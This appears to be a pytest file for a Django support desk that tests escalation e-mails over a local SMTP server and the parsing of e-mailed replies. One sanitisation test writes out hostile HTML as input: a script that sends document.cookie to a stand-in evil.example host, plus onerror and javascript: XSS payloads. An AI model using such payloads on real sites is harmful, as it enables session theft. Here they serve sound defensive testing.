"""Escalation e-mail over real SMTP (aiosmtpd on loopback), and answers by e-mail reply.

The e-mail goes out through Django's SMTP backend to a local server; replies come back as
raw RFC 5322 bytes through the service, the management command (stdin, as an MTA pipe) and
the HTTP endpoint (as a mail gateway).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from dataclasses import dataclass, field
from email import message_from_bytes
from email.message import EmailMessage as MimeMessage
from email.policy import default as default_policy
from email.utils import make_msgid

import pytest
from aiosmtpd.controller import Controller
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone

from inbox.models import Escalation, Message, Ticket, TicketEvent
from inbox.selectors.escalations import escalation_email_states
from inbox.services.escalations import (
    EscalationError,
    EscalationNotWaiting,
    InboundEmailIgnored,
    UnknownReplyToken,
    escalation_answer_from_email,
    escalation_create,
)
from inbox.services.ingest import ingest_batch
from inbox.tasks.escalations import send_escalation_email
from tests.escalations.test_services import BAG_NOTE, InternalTeamFactory
from tests.factories import inbound
from webcare.devtools.redis_server import BASE_DIR, free_port

# The session's Celery worker copies os.environ when it starts (tests/conftest.py), possibly
# before this module's tests run; collection comes first, so its mail server is fixed here.
WORKER_SMTP_PORT = free_port()
os.environ["EMAIL_URL"] = f"smtp://127.0.0.1:{WORKER_SMTP_PORT}"

REPLY_DOMAIN = "replies.klm.example"
INBOUND_SECRET = "gw-secret-9d2f61"
SENDER = "Sanne Bakker <sanne.bakker@klm.example>"
HOSTILE_CUSTOMER_TEXT = '<b>Call me</b><script>alert("x")</script> on 0612345678'


# --- A real SMTP server ------------------------------------------------------------------------


@dataclass
class Received:
    mail_from: str
    rcpt_tos: list[str]
    content: bytes

    @property
    def message(self) -> MimeMessage:
        return message_from_bytes(self.content, policy=default_policy)


@dataclass
class MailSink:
    """aiosmtpd handler: keeps what it accepts; can refuse recipients like a real server."""

    received: list[Received] = field(default_factory=list)
    rcpt_attempts: int = 0
    #: SMTP replies given to RCPT, one per attempt, before accepting.
    refusals: list[str] = field(default_factory=list)
    port: int = 0

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options) -> str:  # noqa: N802
        self.rcpt_attempts += 1
        if self.refusals:
            return self.refusals.pop(0)
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope) -> str:  # noqa: N802
        self.received.append(Received(envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
        return "250 Message accepted for delivery"


def start_sink(port: int) -> tuple[MailSink, Controller]:
    sink = MailSink(port=port)
    controller = Controller(sink, hostname="127.0.0.1", port=port)
    controller.start()
    return sink, controller


@pytest.fixture
def smtp_server(settings, redis_client):
    """A local SMTP server, and Django's SMTP backend pointed at it."""
    sink, controller = start_sink(free_port())
    use_smtp(settings, sink.port)
    yield sink
    controller.stop()


def use_smtp(settings, port: int) -> None:
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = "127.0.0.1"
    settings.EMAIL_PORT = port
    settings.EMAIL_HOST_USER = ""
    settings.EMAIL_HOST_PASSWORD = ""
    settings.EMAIL_USE_TLS = False
    settings.EMAIL_USE_SSL = False
    settings.EMAIL_TIMEOUT = 5
    settings.DEFAULT_FROM_EMAIL = "Webcare desk <webcare@klm.example>"
    settings.ESCALATION_REPLY_ADDRESS = "desk+{token}@" + REPLY_DOMAIN


# --- The desk ------------------------------------------------------------------------------------



@pytest.fixture
def team(db):
    return InternalTeamFactory(name="Lost luggage", email="lostluggage@klm.example", target_minutes=45)


@pytest.fixture
def ticket(source, anna):
    """Three public messages from the customer, the last one with markup in it; pending with Anna."""
    ingest_batch(
        source=source,
        messages=[
            inbound(
                "c1", author="cust1", handle="jan_reist", text="My bag did not arrive on KL642 😡", minutes=0
            ),
            inbound(
                "c2", author="cust1", handle="jan_reist", text="Tag number KL123456", minutes=2, reply_to="c1"
            ),
            inbound(
                "c3", author="cust1", handle="jan_reist", text=HOSTILE_CUSTOMER_TEXT, minutes=3, reply_to="c2"
            ),
        ],
    )
    ticket = Ticket.objects.get()
    Ticket.objects.filter(pk=ticket.pk).update(
        assignee=anna, status=Ticket.Status.PENDING, pending_since=timezone.now()
    )
    ticket.refresh_from_db()
    return ticket


@pytest.fixture
def escalation(ticket, anna, team, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        escalation = escalation_create(ticket=ticket, team=team, note=BAG_NOTE, actor=anna)
    assert len(callbacks) == 2  # push, and the e-mail task: run below by each test
    return escalation


def when(value) -> str:
    return timezone.localtime(value).strftime("%Y-%m-%d %H:%M %Z")


def events_of(type_: str) -> list[TicketEvent]:
    return list(TicketEvent.objects.filter(type=type_).order_by("pk"))


def send(escalation: Escalation) -> str:
    """The task as the worker runs it, retries included (eagerly, without the back-off wait)."""
    return send_escalation_email.apply(args=[escalation.pk]).get()


# --- E-mail out ----------------------------------------------------------------------------------


def test_escalation_email_arrives_with_subject_reply_to_and_plain_text_body(smtp_server, escalation, ticket):
    assert send(escalation) == "sent"

    [received] = smtp_server.received
    mail = received.message
    token = escalation.reply_token
    assert (received.mail_from, received.rcpt_tos) == ("webcare@klm.example", ["lostluggage@klm.example"])
    # Django folds a long encoded subject onto the next line; unfolding leaves the space mail readers drop.
    assert mail["Subject"].lstrip() == (
        f"[Webcare #{ticket.pk}] Lost luggage: My bag did not arrive on KL642 😡 [ref:{token}]"
    )
    assert mail["From"] == "Webcare desk <webcare@klm.example>"
    assert mail["To"] == "lostluggage@klm.example"
    assert mail["Reply-To"] == f"desk+{token}@{REPLY_DOMAIN}"
    assert mail["Message-ID"] == f"<webcare-escalation-{escalation.pk}.{token}@klm.example>"
    assert (mail["Auto-Submitted"], mail["X-Webcare-Ticket"], mail["X-Webcare-Escalation"]) == (
        "auto-generated",
        str(ticket.pk),
        str(escalation.pk),
    )
    assert mail.get_content_type() == "text/plain" and not mail.is_multipart()
    assert mail.get_content().replace("\r\n", "\n") == (
        "##- Reply above this line -##\n"
        f"Reply above this line. Your answer goes straight to the webcare agent on ticket #{ticket.pk}.\n"
        "\n"
        f"Ticket #{ticket.pk} from Cust1 (@jan_reist) on demo.\n"
        f"Escalated to Lost luggage by Anna de Vries on {when(escalation.created_at)}.\n"
        f"Answer expected by {when(escalation.due_at)}.\n"
        "\n"
        "Note from the agent:\n"
        f"{BAG_NOTE}\n"
        "\n"
        "The customer's last messages, oldest first:\n"
        "\n"
        "[2026-11-02 10:00 CET, public]\n"
        "My bag did not arrive on KL642 😡\n"
        "\n"
        "[2026-11-02 10:02 CET, public]\n"
        "Tag number KL123456\n"
        "\n"
        "[2026-11-02 10:03 CET, public]\n"
        f"{HOSTILE_CUSTOMER_TEXT}\n"
    )
    [emailed] = events_of("escalation.emailed")
    assert emailed.payload == {
        "escalation_id": escalation.pk,
        "to": "lostluggage@klm.example",
        "message_id": mail["Message-ID"],
        "assignee_id": ticket.assignee_id,
        "status": "pending",
    }
    assert escalation_email_states(escalations=[escalation]) == {escalation.pk: "sent"}

    # The task delivered twice (acks_late after a lost worker): the mail is not sent again.
    assert send(escalation) == "already sent"
    assert len(smtp_server.received) == 1 and len(events_of("escalation.emailed")) == 1


def test_temporary_refusals_are_retried_and_the_mail_goes_out_once(smtp_server, escalation, settings):
    settings.ESCALATION_EMAIL_MAX_RETRIES = 3
    smtp_server.refusals.extend(["451 4.3.0 Try again later", "421 4.7.0 Too busy"])

    assert send(escalation) == "sent"

    assert smtp_server.rcpt_attempts == 3
    assert len(smtp_server.received) == 1
    assert len(events_of("escalation.emailed")) == 1 and events_of("escalation.email_failed") == []


def test_mail_server_down_is_retried_then_the_failure_is_shown_to_the_agent(
    settings, redis_client, escalation, ticket, anna
):
    use_smtp(settings, free_port())  # nothing listens there
    settings.ESCALATION_EMAIL_MAX_RETRIES = 2

    assert send(escalation) == "failed"

    [failed] = events_of("escalation.email_failed")
    assert failed.payload == {
        "escalation_id": escalation.pk,
        "to": "lostluggage@klm.example",
        "error": "gave up after 3 attempts: ConnectionRefusedError: [Errno 111] Connection refused",
        "assignee_id": anna.pk,
        "status": "pending",
    }
    assert failed.queue_id == ticket.queue_id
    assert events_of("escalation.emailed") == []
    assert escalation_email_states(escalations=[escalation]) == {escalation.pk: "failed"}


def test_permanent_refusal_is_not_retried(smtp_server, escalation, settings):
    settings.ESCALATION_EMAIL_MAX_RETRIES = 5
    smtp_server.refusals.append("550 5.1.1 No such mailbox")

    assert send(escalation) == "failed"

    assert smtp_server.rcpt_attempts == 1 and smtp_server.received == []
    [failed] = events_of("escalation.email_failed")
    assert failed.payload["error"] == (
        "refused by the mail server: SMTPRecipientsRefused: "
        "{'lostluggage@klm.example': (550, b'5.1.1 No such mailbox')}"
    )


def test_one_sender_at_a_time(smtp_server, escalation, settings):
    from inbox.services.locks import lock

    settings.ESCALATION_EMAIL_MAX_RETRIES = 1
    other_worker = lock(f"escalation-email:{escalation.pk}", ttl_seconds=30)
    assert other_worker.acquire()

    assert send(escalation) == "busy"  # looked again once, still busy: the holder sends it
    assert smtp_server.received == []

    other_worker.release()
    assert send(escalation) == "sent"
    assert len(smtp_server.received) == 1


def test_reply_address_without_token_is_a_failure_the_agent_sees(smtp_server, escalation, settings):
    settings.ESCALATION_REPLY_ADDRESS = "desk@klm.example"

    assert send(escalation) == "failed"

    assert smtp_server.received == []
    [failed] = events_of("escalation.email_failed")
    assert (
        failed.payload["error"]
        == "not sent: ESCALATION_REPLY_ADDRESS must contain {token}: 'desk@klm.example'"
    )


def test_cancelled_before_sending_sends_nothing(smtp_server, escalation, anna):
    from inbox.services.escalations import escalation_cancel

    escalation_cancel(escalation=escalation, actor=anna)
    assert send(escalation) == "not sent: escalation is cancelled"
    assert smtp_server.received == []


# --- Replies in --------------------------------------------------------------------------------


def sent_mail(smtp_server: MailSink, escalation: Escalation) -> MimeMessage:
    assert send(escalation) == "sent"
    return smtp_server.received[-1].message


def quoted(original: MimeMessage) -> str:
    return "\n".join(f"> {line}" if line else ">" for line in original.get_content().splitlines())


def reply(
    original: MimeMessage,
    *,
    plain: str | None,
    html: str | None = None,
    sender: str = SENDER,
    to: str | None = None,
    subject: str | None = None,
    headers: dict[str, str] | None = None,
    message_id: str | None = None,
) -> bytes:
    """A reply as a mail client writes it: headers threading it to the original."""
    mail = MimeMessage(policy=default_policy)
    mail["From"] = sender
    mail["To"] = to if to is not None else original["Reply-To"]
    mail["Subject"] = subject if subject is not None else f"Re: {original['Subject'].lstrip()}"
    mail["Date"] = "Tue, 03 Nov 2026 10:41:07 +0100"
    mail["Message-ID"] = message_id or make_msgid(domain="klm.example")
    mail["In-Reply-To"] = original["Message-ID"]
    mail["References"] = original["Message-ID"]
    for name, value in (headers or {}).items():
        mail[name] = value
    if plain is not None:
        mail.set_content(plain, cte="quoted-printable")
        if html is not None:
            mail.add_alternative(html, subtype="html")
    else:
        mail.set_content(html, subtype="html")
    return mail.as_bytes()


GMAIL_PLAIN = (
    "Hi Anna,\n"
    "\n"
    "Bag KL123456 was found in Amsterdam 🧳 – it goes on tomorrow's KL641 to JFK.\n"
    "Tracing file: AMSKL12345. Jörg will call the customer.\n"
    "\n"
    "Groeten,\n"
    "Sanne\n"
    "\n"
    "-- \n"
    "Sanne Bakker | Lost & Found Schiphol\n"
    "+31 20 000 0000\n"
    "\n"
    "On Tue, 3 Nov 2026 at 10:02, Webcare desk <webcare@klm.example> wrote:\n"
)
GMAIL_HTML = (
    '<div dir="ltr">Hi Anna,<br><br>Bag KL123456 was found in Amsterdam 🧳 – HTML copy.<br></div>'
    '<div class="gmail_quote"><blockquote class="gmail_quote">quoted</blockquote></div>'
)
EXPECTED_ANSWER = (
    "Hi Anna,\n"
    "\n"
    "Bag KL123456 was found in Amsterdam 🧳 – it goes on tomorrow's KL641 to JFK.\n"
    "Tracing file: AMSKL12345. Jörg will call the customer.\n"
    "\n"
    "Groeten,\n"
    "Sanne"
)


def test_reply_with_quote_signature_and_html_alternative_lands_once_and_returns_the_ticket(
    smtp_server, escalation, ticket, anna
):
    original = sent_mail(smtp_server, escalation)
    raw = reply(original, plain=GMAIL_PLAIN + quoted(original), html=GMAIL_HTML)

    answered = escalation_answer_from_email(raw=raw)

    assert (answered.pk, answered.status, answered.answer, answered.answered_by) == (
        escalation.pk,
        "answered",
        EXPECTED_ANSWER,
        SENDER,
    )
    note = Message.objects.filter(direction=Message.Direction.NOTE).order_by("-pk").first()
    assert (note.ticket, note.text, note.author_user, note.is_public) == (
        ticket,
        EXPECTED_ANSWER,
        None,
        False,
    )
    assert note.raw["escalation"]["via"] == "email"
    assert (
        note.raw["escalation"]["email_message_id"]
        == message_from_bytes(raw, policy=default_policy)["Message-ID"]
    )
    ticket.refresh_from_db()
    assert (ticket.status, ticket.assignee) == ("open", anna)
    [answered_event] = [e for e in events_of("escalation.answered")]
    assert answered_event.payload["assignee_id"] == anna.pk

    # The mail system delivers the same message again: nothing more is stored.
    with pytest.raises(InboundEmailIgnored) as ignored:
        escalation_answer_from_email(raw=raw)
    assert str(ignored.value) == f"duplicate of the answer already stored on escalation {escalation.pk}"
    assert Message.objects.filter(direction=Message.Direction.NOTE).count() == 2  # the note and one answer
    assert len(events_of("escalation.answered")) == 1


def test_a_different_second_reply_is_refused_with_the_reason(smtp_server, escalation):
    original = sent_mail(smtp_server, escalation)
    escalation_answer_from_email(raw=reply(original, plain=GMAIL_PLAIN))
    escalation.refresh_from_db()

    with pytest.raises(EscalationNotWaiting) as refused:
        escalation_answer_from_email(raw=reply(original, plain="One more thing: it is a blue suitcase."))

    assert str(refused.value) == (
        f"escalation {escalation.pk} was already answered by {SENDER} at {escalation.answered_at.isoformat()}"
    )
    escalation.refresh_from_db()
    assert escalation.answer == EXPECTED_ANSWER


def test_html_only_reply_with_hostile_markup_is_stored_as_plain_text(smtp_server, escalation):
    original = sent_mail(smtp_server, escalation)
    html = (
        "<html><head><style>p{color:red}</style><script>alert('head')</script></head><body>"
        "<p>Checked with the station: <b>bag is on its way</b>.</p>"
        "<p>The customer wrote &lt;img src=x onerror=alert(1)&gt; in the form, ignore that.</p>"
        '<img src="x" onerror="alert(2)"><a href="javascript:alert(3)">tracing link</a>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<iframe src="https://evil.example/"></iframe><!-- <p>secret comment</p> -->'
        '<div id="divRplyFwdMsg"><b>From:</b> Webcare desk</div>'
        f"<blockquote>{original['Subject']}</blockquote></body></html>"
    )

    answered = escalation_answer_from_email(raw=reply(original, plain=None, html=html))

    assert answered.answer == (
        "Checked with the station: bag is on its way.\n"
        "\n"
        "The customer wrote <img src=x onerror=alert(1)> in the form, ignore that.\n"
        "tracing link"
    )


def test_non_ascii_sender_and_legacy_charset_are_decoded(smtp_server, escalation):
    original = sent_mail(smtp_server, escalation)
    raw = (
        f"From: =?iso-8859-1?q?J=F6rg_M=FCller?= <joerg.mueller@klm.example>\r\n"
        f"To: {original['Reply-To']}\r\n"
        f"Subject: RE: Lost luggage [ref:{escalation.reply_token}]\r\n"
        "Message-ID: <outlook-1@klm.example>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="windows-1252"\r\n'
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
    ).encode("ascii") + (
        "Koffer gevonden, gaat morgen mee – groet, Jörg\r\n"
        "\r\n"
        "________________________________\r\n"
        "Van: Webcare desk <webcare@klm.example>\r\n"
        "Verzonden: dinsdag 3 november 2026 10:02\r\n"
    ).encode("cp1252")

    answered = escalation_answer_from_email(raw=raw)

    assert (answered.answer, answered.answered_by) == (
        "Koffer gevonden, gaat morgen mee – groet, Jörg",
        "Jörg Müller <joerg.mueller@klm.example>",
    )


@pytest.mark.parametrize("where", ["subject", "in-reply-to"])
def test_token_is_found_in_the_subject_or_the_references_when_the_address_lost_it(
    smtp_server, escalation, where
):
    original = sent_mail(smtp_server, escalation)
    # Forwarded through a shared mailbox: the plus-address is gone.
    raw = reply(
        original,
        plain="Found it.",
        to="desk@" + REPLY_DOMAIN,
        subject=original["Subject"] if where == "subject" else "Re: your question",
    )
    if where == "subject":
        raw = raw.replace(b"In-Reply-To", b"X-Old-In-Reply-To").replace(b"References", b"X-Old-References")

    assert escalation_answer_from_email(raw=raw).answer == "Found it."


def test_unknown_or_missing_token_is_refused_precisely(smtp_server, escalation):
    original = sent_mail(smtp_server, escalation)
    unknown = reply(
        original, plain="Found it.", to=f"desk+AAAAAAAAAAAAAAAAAAAAAAAA@{REPLY_DOMAIN}", subject="Re: bag"
    )
    unknown = unknown.replace(b"In-Reply-To", b"X-Old-In-Reply-To").replace(
        b"References", b"X-Old-References"
    )
    with pytest.raises(UnknownReplyToken) as refused:
        escalation_answer_from_email(raw=unknown)
    assert str(refused.value) == "no escalation has the reply token 'AAAAAAAAAAAAAAAAAAAAAAAA'"

    nothing = unknown.replace(b"desk+AAAAAAAAAAAAAAAAAAAAAAAA@", b"someone@")
    with pytest.raises(UnknownReplyToken) as refused:
        escalation_answer_from_email(raw=nothing)
    assert str(refused.value) == (
        "no reply token in the recipient address, the subject ([ref:…]) or In-Reply-To/References"
    )
    escalation.refresh_from_db()
    assert escalation.status == "waiting"


def test_out_of_office_and_empty_replies_store_nothing(smtp_server, escalation):
    original = sent_mail(smtp_server, escalation)
    auto = reply(
        original, plain="I am out of the office until Monday.", headers={"Auto-Submitted": "auto-replied"}
    )
    with pytest.raises(
        InboundEmailIgnored, match=r"^ignored automatic reply \(Auto-Submitted: auto-replied\)$"
    ):
        escalation_answer_from_email(raw=auto)

    only_quote = reply(original, plain="\n" + quoted(original))
    with pytest.raises(EscalationError, match="^the reply has no text above the quoted message$"):
        escalation_answer_from_email(raw=only_quote)
    escalation.refresh_from_db()
    assert (escalation.status, escalation.answer) == ("waiting", "")


# --- The management command (MTA pipe) -----------------------------------------------------------


def test_command_reads_file_and_reports_what_it_did(smtp_server, escalation, tmp_path, capsys):
    original = sent_mail(smtp_server, escalation)
    path = tmp_path / "reply.eml"
    path.write_bytes(reply(original, plain=GMAIL_PLAIN))

    call_command("receive_escalation_mail", "--file", str(path))
    assert capsys.readouterr().out == (
        f"escalation {escalation.pk} on ticket #{escalation.ticket_id}: answered by {SENDER}\n"
    )
    call_command("receive_escalation_mail", "--file", str(path))
    assert capsys.readouterr().out == (
        f"ignored: duplicate of the answer already stored on escalation {escalation.pk}\n"
    )
    path.write_bytes(b"Subject: hello\r\n\r\nno token here\r\n")
    with pytest.raises(CommandError) as refused:
        call_command("receive_escalation_mail", "--file", str(path))
    assert (refused.value.returncode, str(refused.value)) == (
        65,
        "not stored: no reply token in the recipient address, the subject ([ref:…]) or In-Reply-To/References",
    )


@pytest.mark.django_db(transaction=True)
def test_command_as_an_mta_pipe_stores_the_answer_from_stdin(smtp_server, source, anna, team):
    """A separate process, as Postfix would run it, on the committed test database."""
    from webcare.celery import app

    ingest_batch(source=source, messages=[inbound("c1", author="cust1", text="Where is my bag?", minutes=0)])
    ticket = Ticket.objects.get()
    escalation = escalation_create(ticket=ticket, team=team, note=BAG_NOTE, actor=anna)
    app.control.purge()  # this test sends the mail itself, below
    original = sent_mail(smtp_server, escalation)
    env = {**os.environ, "WEBCARE_DATABASE_NAME": str(settings.DATABASES["default"]["NAME"])}

    def pipe(raw: bytes) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "manage.py", "receive_escalation_mail"],
            input=raw,
            capture_output=True,
            cwd=BASE_DIR,
            env=env,
            timeout=120,
            check=False,
        )

    stored = pipe(reply(original, plain=GMAIL_PLAIN + quoted(original), html=GMAIL_HTML))
    assert (stored.returncode, stored.stdout.decode()) == (
        0,
        f"escalation {escalation.pk} on ticket #{ticket.pk}: answered by {SENDER}\n",
    )
    escalation.refresh_from_db()
    assert (escalation.status, escalation.answer) == ("answered", EXPECTED_ANSWER)

    # The command runs with the default reply address; the token still comes through the subject.
    unknown = pipe(
        b"To: escalations@localhost\r\nSubject: Re: [ref:AAAAAAAAAAAAAAAAAAAAAAAA]\r\n\r\nFound it.\r\n"
    )
    assert unknown.returncode == 65
    assert unknown.stderr.decode().strip() == (
        "CommandError: not stored: no escalation has the reply token 'AAAAAAAAAAAAAAAAAAAAAAAA'"
    )
    assert Message.objects.filter(direction=Message.Direction.NOTE).count() == 2


# --- The HTTP endpoint (mail gateway) ------------------------------------------------------------

INBOUND_URL = "/api/v1/escalations/inbound-email/"


def post_mail(
    client, raw: bytes, *, secret: str | None = INBOUND_SECRET, content_type: str = "message/rfc822"
):
    headers = {"X-Webcare-Inbound-Secret": secret} if secret is not None else {}
    return client.post(INBOUND_URL, data=raw, content_type=content_type, headers=headers)


def test_gateway_with_the_secret_stores_the_answer_once(client, settings, smtp_server, escalation):
    settings.ESCALATION_INBOUND_SECRET = INBOUND_SECRET
    original = sent_mail(smtp_server, escalation)
    raw = reply(original, plain=GMAIL_PLAIN + quoted(original), html=GMAIL_HTML)

    first = post_mail(client, raw)
    again = post_mail(client, raw, content_type="application/octet-stream")

    assert (first.status_code, first.json()) == (
        200,
        {
            "result": "stored",
            "escalation": escalation.pk,
            "ticket": escalation.ticket_id,
            "detail": f"answered by {SENDER}",
        },
    )
    assert (again.status_code, again.json()) == (
        200,
        {
            "result": "ignored",
            "escalation": None,
            "ticket": None,
            "detail": f"duplicate of the answer already stored on escalation {escalation.pk}",
        },
    )
    escalation.refresh_from_db()
    assert escalation.answer == EXPECTED_ANSWER
    assert Message.objects.filter(direction=Message.Direction.NOTE).count() == 2


def test_gateway_refusals_are_precise(client, settings, smtp_server, escalation):
    settings.ESCALATION_INBOUND_SECRET = INBOUND_SECRET
    original = sent_mail(smtp_server, escalation)
    raw = reply(original, plain="Found it.")

    wrong = post_mail(client, raw, secret="gw-secret-9d2f6X")
    missing = post_mail(client, raw, secret=None)
    media = post_mail(client, raw, content_type="application/json")
    empty = post_mail(client, b"")
    unknown = post_mail(client, b"To: someone@" + REPLY_DOMAIN.encode() + b"\r\n\r\nFound it.\r\n")
    get = client.get(INBOUND_URL, headers={"X-Webcare-Inbound-Secret": INBOUND_SECRET})

    assert (wrong.status_code, wrong.json()) == (
        403,
        {"detail": "Wrong or missing X-Webcare-Inbound-Secret header."},
    )
    assert (missing.status_code, missing.json()) == (
        403,
        {"detail": "Wrong or missing X-Webcare-Inbound-Secret header."},
    )
    assert (media.status_code, media.json()) == (
        415,
        {"detail": 'Unsupported media type "application/json" in request.'},
    )
    assert (empty.status_code, empty.json()) == (
        400,
        {"detail": "The request body must be the e-mail (message/rfc822)."},
    )
    assert (unknown.status_code, unknown.json()) == (
        404,
        {
            "detail": "no reply token in the recipient address, the subject ([ref:…]) or In-Reply-To/References"
        },
    )
    assert get.status_code == 405
    escalation.refresh_from_db()
    assert escalation.status == "waiting"


def test_gateway_endpoint_is_off_without_a_configured_secret(client, settings, smtp_server, escalation):
    settings.ESCALATION_INBOUND_SECRET = ""
    original = sent_mail(smtp_server, escalation)

    for secret in ("", INBOUND_SECRET):
        response = post_mail(client, reply(original, plain="Found it."), secret=secret)
        assert (response.status_code, response.json()) == (
            403,
            {"detail": "The inbound e-mail endpoint is disabled."},
        )
    escalation.refresh_from_db()
    assert escalation.status == "waiting"


def test_gateway_conflict_for_an_answered_escalation(client, settings, smtp_server, escalation):
    settings.ESCALATION_INBOUND_SECRET = INBOUND_SECRET
    original = sent_mail(smtp_server, escalation)
    assert post_mail(client, reply(original, plain="Found it.")).status_code == 200
    escalation.refresh_from_db()

    second = post_mail(client, reply(original, plain="Also: blue suitcase."))

    assert (second.status_code, second.json()) == (
        409,
        {
            "detail": f"escalation {escalation.pk} was already answered by {SENDER} at "
            f"{escalation.answered_at.isoformat()}"
        },
    )


# --- Through the real Celery worker ----------------------------------------------------------------


def wait_for(check, timeout: float = 45.0, what: str = "condition"):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = check()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(f"timed out waiting for {what}")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_worker_sends_the_escalation_email_after_commit(celery_worker, redis_client, source, anna, team):
    from webcare.celery import app

    registered = app.control.inspect(timeout=5).registered() or {}
    if not any(send_escalation_email.name in tasks for tasks in registered.values()):
        pytest.skip("the worker does not load inbox.tasks.escalations (inbox/tasks/__init__.py imports it)")
    sink, controller = start_sink(WORKER_SMTP_PORT)
    try:
        ingest_batch(
            source=source, messages=[inbound("c1", author="cust1", text="Where is my bag?", minutes=0)]
        )
        escalation = escalation_create(ticket=Ticket.objects.get(), team=team, note=BAG_NOTE, actor=anna)

        wait_for(lambda: events_of("escalation.emailed"), what="the escalation.emailed event")
        [received] = sink.received
        mail = received.message
        assert received.rcpt_tos == ["lostluggage@klm.example"]
        assert mail["Reply-To"] == f"escalations+{escalation.reply_token}@localhost"  # the default address
        assert mail["Subject"].endswith(f"[ref:{escalation.reply_token}]")
    finally:
        controller.stop()
